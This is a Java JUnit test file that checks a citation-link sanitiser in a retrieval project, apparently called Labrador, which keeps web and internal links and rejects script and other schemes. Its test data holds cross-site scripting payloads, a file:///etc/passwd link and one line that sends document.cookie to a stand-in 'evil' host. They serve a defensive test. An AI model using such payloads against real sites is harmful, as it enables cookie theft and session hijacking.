package org.labrador.retrieval;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Citation links reach readers (API, IDE chats, web UI) only as web pages or pages of Labrador. */
class CitationLinkTest {

    @Test
    void webPagesAndLabradorPagesAreKept() {
        for (String link : List.of("https://github.com/o/r/blob/abc/a.py#L1-L2", "http://wiki.example.org/index.php?title=X",
                "/source/docs/a.md?lines=1-2", "/files/papers/a.pdf#page=3", "docs/a.md", "")) {
            assertThat(CitationLink.isSafe(link)).as(link).isTrue();
        }
    }

    @Test
    void scriptsAndOtherSchemesAreNot() {
        for (String link : List.of("javascript:alert(document.cookie)", "JavaScript:alert(1)", "java\tscript:alert(1)",
                " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
                "file:///etc/passwd", "//evil.example.org/x", "\\\\evil\\share", "/\\evil.example.org", "http:alert(1)")) {
            assertThat(CitationLink.isSafe(link)).as(link).isFalse();
        }
    }

    @Test
    void aChunkWithAScriptLinkOpensTheViewerInstead() {
        Chunk chunk = new Chunk("id", "wiki", "Drift chamber.md", "Drift", List.of(), 3, 9, "text",
                "javascript:fetch('//evil/'+document.cookie)", "hash");
        assertThat(chunk.uri()).isEqualTo("/source/wiki/Drift%20chamber.md?lines=3-9");
        Citation kept = new Citation(1, "t", "a.md", List.of(), "4-5", "javascript:alert(1)", "s", "docs");
        assertThat(kept.uri()).as("a stored citation: no link, so clients open their viewer").isEmpty();
    }
}
